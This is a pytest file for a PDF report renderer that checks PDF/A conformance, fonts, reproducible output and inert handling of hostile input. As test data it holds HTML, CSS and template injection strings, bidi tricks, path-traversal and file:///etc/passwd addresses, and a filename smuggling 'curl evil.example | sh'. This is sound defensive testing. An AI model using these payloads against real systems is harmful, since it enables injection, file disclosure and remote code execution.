"""The PDFs themselves: archivable, the same bytes each time, and unmoved by hostile text."""

import dataclasses
import hashlib
import io
import json
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest
from pypdf import PdfReader

from audits.reports import assets
from audits.reports.documents import FindingLine
from audits.reports.render import RenderingFailed, render, to_html
from audits.reports.snapshot import to_json
from governance.canonical import canonical, digest
from tests.audits.documents import AT, audit_report, dossier

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=file:///etc/passwd>",
    '"><link rel=stylesheet href=http://evil.example/x.css>',
    "</style><style>@import url(http://evil.example/y.css); body { display: none }",
    "{% include 'admin/login.html' %}{{ d }}",
    "a\x07b\x1b[31mred\u202egnp.exe\u2066",
    "資料 \U0001f600 привет",
)


def reader(document):
    rendered = render(to_json(document))
    pdf = PdfReader(io.BytesIO(rendered.content))
    assert len(pdf.pages) == rendered.pages
    return pdf


def text_of(pdf):
    return "\n".join(page.extract_text() for page in pdf.pages)


@pytest.fixture(scope="module")
def dossier_pdf():
    return reader(dossier())


@pytest.fixture(scope="module")
def audit_pdf():
    return reader(audit_report())


@pytest.fixture(params=["dossier_pdf", "audit_pdf"])
def pdf(request):
    return request.getfixturevalue(request.param)


def test_pdf_claims_pdf_a_with_its_output_intent(pdf):
    catalog = pdf.trailer["/Root"]
    metadata = catalog["/Metadata"].get_data().decode()
    intent = catalog["/OutputIntents"][0]

    assert 'part="3"' in metadata
    assert 'conformance="A"' in metadata
    assert intent["/S"] == "/GTS_PDFA1"
    assert intent["/DestOutputProfile"].get_object()["/N"] == 3
    assert pdf.trailer["/ID"]
    assert "/Encrypt" not in pdf.trailer


def test_pdf_is_tagged_and_says_its_language(pdf):
    catalog = pdf.trailer["/Root"]

    assert catalog["/MarkInfo"]["/Marked"]
    assert catalog["/Lang"] == "en"
    assert catalog["/StructTreeRoot"]["/K"]


def fonts_of(pdf):
    return {
        str(font.get_object()["/BaseFont"]): font.get_object()
        for page in pdf.pages
        for font in page["/Resources"]["/Font"].values()
    }


def test_pdf_embeds_every_font_and_only_ours(pdf):
    fonts = fonts_of(pdf)

    assert {name.split("+")[1].split("-")[0] for name in fonts} <= {"Inter", "DejaVu", "Report", "DejaVuSans"}
    for name, font in fonts.items():
        descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"]
        assert {"/FontFile", "/FontFile2", "/FontFile3"} & descriptor.keys(), name
        assert "/ToUnicode" in font, name


def test_pdf_runs_nothing_and_leads_nowhere(pdf):
    catalog = pdf.trailer["/Root"]

    assert not {"/OpenAction", "/AA", "/AcroForm"} & catalog.keys()
    for page in pdf.pages:
        for annotation in page.get("/Annots", []):
            found = annotation.get_object()
            assert "/URI" not in found.get("/A", {})
            assert found["/Subtype"] == "/Link"


def test_pdf_has_bookmarks_title_and_page_numbers(dossier_pdf):
    pdf = dossier_pdf
    names = [entry.title for entry in pdf.outline if not isinstance(entry, list)]

    assert names[:4] == ["acme-crm-connector", "1 Summary", "2 Certificate", "3 Risk"]
    assert len(names) == 12
    assert pdf.metadata.title == "Certification dossier: acme-crm-connector 1.4.0"
    assert f"Page 2 of {len(pdf.pages)}" in pdf.pages[1].extract_text()


def test_pdf_dates_are_the_snapshot_s(dossier_pdf):
    assert dossier_pdf.metadata.creation_date == AT
    assert dossier_pdf.metadata.modification_date == AT


def test_pdf_carries_its_snapshot(pdf):
    document = dossier() if "dossier" in pdf.metadata.title else audit_report()
    attached = pdf.attachments["snapshot.json"][0]

    assert attached == canonical(to_json(document))
    assert digest(json.loads(attached)) in text_of(pdf).replace("\n", "")


def test_dossier_says_what_it_has_to(dossier_pdf):
    text = " ".join(text_of(dossier_pdf).split())

    for words in (
        "Not certified: certificate Suspended",
        "src/acme/settings.py:12",
        "Revoke the token and read it from the platform's secret store.",
        "telemetry.other.example",
        "demo's small starter feed",
        "GHSA-x84v-xcm2-53pg",
        "Known exploited since 2026-11-03. Credentials are sent to another host after a redirect.",
        "OWASP ASVS 5.0: V13.3.1",
        "A live token is in the package.",
        "State: Vetting → In review",
        "python -m certification.verify",
        "Demo. Made in demo mode",
        "Close the leaked token",
        "Rule set of the check malware: GuardDog 3.2.0, 55 rules.",
    ):
        assert words in text
    assert f"sha256:{'5e' * 32}" in text.replace(" ", "")


def test_audit_report_says_what_it_has_to(audit_pdf):
    text = " ".join(text_of(audit_pdf).split())

    for words in (
        "AUD-2026-01",
        "Three of ten decisions name no evidence.",
        "Policy, section 4",
        "There is no template.",
        "Decisions cannot be followed.",
        "Give reviewers a template.",
        "All decisions of the next quarter name evidence.",
        "PW-20260801-ABCD1234",
        "sample.csv",
        "Decisions follow the policy, with one exception.",
    ):
        assert words in text


def test_certified_is_said_only_of_a_certificate_that_is_in_force_and_verifies():
    facts = dossier().certificate
    good = dataclasses.replace(facts, in_force=True, verified=True)
    broken = dataclasses.replace(facts, in_force=True, verified=False)

    assert "Certified until" in to_html(dossier(certificate=good), "0" * 64)
    assert "Certified until" not in to_html(dossier(certificate=broken), "0" * 64)
    assert "The certificate does not verify" in to_html(dossier(certificate=broken), "0" * 64)
    assert "Certified until" not in to_html(dossier(certificate=None), "0" * 64)


RENDER = """
import sys, json, hashlib
from tests.support import environment
environment.prepare()
import django; django.setup()
from audits.reports.render import render
print(hashlib.sha256(render(json.load(sys.stdin)).content).hexdigest())
"""


def rendered_elsewhere(document, folder):
    """The digest of the PDF as another process makes it: other hash seed, other time zone, not one font installed."""
    no_fonts = folder / "fonts.conf"
    no_fonts.write_text("<fontconfig></fontconfig>")
    out = subprocess.run(
        [sys.executable, "-c", RENDER],
        input=json.dumps(to_json(document)),
        env={
            **os.environ,
            "PYTHONHASHSEED": "7",
            "TZ": "Asia/Tokyo",
            "PYTHONPATH": str(Path.cwd()),
            "FONTCONFIG_FILE": str(no_fonts),
        },
        capture_output=True,
        text=True,
        check=True,
    )
    return out.stdout.split()[-1]


def test_same_snapshot_gives_the_same_bytes_even_where_no_font_is_installed(tmp_path):
    here = hashlib.sha256(render(to_json(dossier())).content).hexdigest()

    assert rendered_elsewhere(dossier(), tmp_path) == here


def finding(**over):
    values = {field.name: "x" for field in dataclasses.fields(FindingLine)} | {"line": 1, "severity": "low"}
    return FindingLine(**values | over)


def test_hostile_text_is_only_ever_text(caplog):
    bad = tuple(finding(title=text, snippet=text, path=text, detail=text, remediation=text) for text in HOSTILE)
    everywhere = " ".join(HOSTILE)
    document = dossier(description=everywhere, plugin=everywhere[:214], findings=bad)

    html = to_html(document, "0" * 64)
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        pdf = reader(document)

    assert "<script" not in html
    assert html.count("<img") == to_html(dossier(), "0" * 64).count("<img")
    assert html.count("<style") == 1
    assert not caplog.records
    assert "root:" not in text_of(pdf)
    assert text_of(pdf).count("<script>alert(1)</script>") >= 4


def test_a_file_name_cannot_slip_commands_into_the_instructions():
    document = dossier()
    named = dataclasses.replace(document.identity, filename="x.tgz; curl evil.example | sh")

    html = to_html(dataclasses.replace(document, identity=named), "0" * 64)

    assert "--artifact &#x27;x.tgz; curl evil.example | sh&#x27; " in html


def test_invisible_and_undrawable_characters_are_written_out():
    html = to_html(dossier(findings=(finding(title="a\x07b \u202egnp.exe 資 привет"),)), "0" * 64)

    assert r"a\u{7}b \u{202E}gnp.exe \u{8CC7} привет" in html


def test_endless_words_stay_on_the_page():
    endless = "W" * 5000
    pdf = reader(
        dossier(
            description=endless, plugin=endless[:214], findings=(finding(title=endless, path=endless, snippet=endless),)
        )
    )

    lines = text_of(pdf).splitlines()
    assert sum(line.count("W") for line in lines) >= 5000 * 4
    assert max(len(line) for line in lines) < 160


def test_two_thousand_rules_are_cut_and_the_cut_is_named():
    many = tuple(finding(rule=f"rule-{number}", title=f"Finding number {number}.") for number in range(2000))
    pdf = reader(dossier(findings=many))
    text = " ".join(text_of(pdf).split())

    assert "500 of 2000 findings have their place above. All 2000 are in the attached file snapshot.json" in text
    assert "Finding number 499." in text
    assert "Finding number 500." not in text
    assert len(json.loads(pdf.attachments["snapshot.json"][0])["findings"]) == 2000


def test_equal_findings_are_told_once_with_their_first_places():
    many = tuple(finding(title="Hidden text", path=f"src/file{number}.js") for number in range(400))
    pdf = reader(dossier(findings=many))
    text = " ".join(text_of(pdf).split())

    assert text.count("Hidden text") == 1
    assert "In 400 places:" in text
    assert ("src/file5.js:1" in text, "src/file6.js:1" in text) == (True, False)
    assert "and 394 more places, all in the attached file snapshot.json" in text
    assert "6 of 400 findings have their place above" in text
    assert len(pdf.pages) <= len(reader(dossier()).pages) + 1


def test_a_rule_of_many_words_does_not_fill_the_dossier():
    many = tuple(finding(rule="bidi", title=f"Strange name {number}!", path="a.js") for number in range(300))
    text = " ".join(text_of(reader(dossier(findings=(*many, finding(title="Another"))))).split())

    assert ("Strange name 7!" in text, "Strange name 8!" in text) == (True, False)
    assert "and 292 more findings of bidi, all in the attached file snapshot.json" in text
    assert "Another" in text


def test_findings_that_differ_keep_their_own_words():
    text = " ".join(text_of(reader(dossier())).split())

    assert "places:" not in text
    assert "have their place above" not in text


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "http://127.0.0.1:1/", "asset:../../../etc/passwd", "asset:print.css", "/etc/passwd"],
)
def test_fetcher_refuses_all_but_assets_and_data(address):
    with pytest.raises(assets.AssetRefused):
        assets.AssetFetcher().fetch(address)


def test_missing_font_fails_with_its_name(monkeypatch):
    monkeypatch.setattr(assets, "INTER", "unfold/fonts/gone")

    with pytest.raises(RenderingFailed, match=r"The font Inter-Regular\.woff2 of the reports is missing"):
        render(to_json(dossier()))
